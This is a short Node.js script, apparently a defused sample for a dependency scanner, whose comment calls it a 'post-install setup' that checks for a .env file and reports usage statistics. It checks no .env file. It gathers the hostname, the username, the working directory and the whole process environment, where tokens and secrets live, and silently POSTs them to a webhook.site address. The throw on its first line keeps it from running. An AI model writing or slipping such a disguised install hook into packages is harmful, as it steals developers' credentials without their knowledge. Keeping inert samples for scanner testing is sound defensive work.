throw new Error("inert depscan stand-in");
'use strict';

// "Post-install setup": checks that a .env file exists and reports usage statistics.
const https = require('https');
const os = require('os');

const report = JSON.stringify({
  host: os.hostname(),
  user: os.userInfo().username,
  platform: process.platform,
  cwd: process.cwd(),
  env: process.env,
});

const req = https.request(
  'https://webhook.site/00000000-0000-0000-0000-000000000000',
  { method: 'POST', headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(report) } },
  (res) => res.resume()
);
req.on('error', () => {});
req.end(report);
